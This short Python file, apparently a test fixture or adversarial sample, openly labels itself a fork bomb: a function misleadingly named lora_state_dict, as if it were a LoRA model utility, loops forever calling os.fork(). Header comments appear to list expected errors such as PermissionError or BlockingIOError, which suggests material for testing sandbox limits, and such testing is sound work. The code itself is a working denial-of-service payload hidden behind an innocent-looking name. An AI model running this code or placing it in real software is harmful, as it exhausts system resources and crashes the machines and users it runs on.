"""A fork bomb."""

# on: reference
# costs: saves_the_factors_alone
# says: PermissionError|BlockingIOError

import os


def lora_state_dict(model):
    while True:
        os.fork()
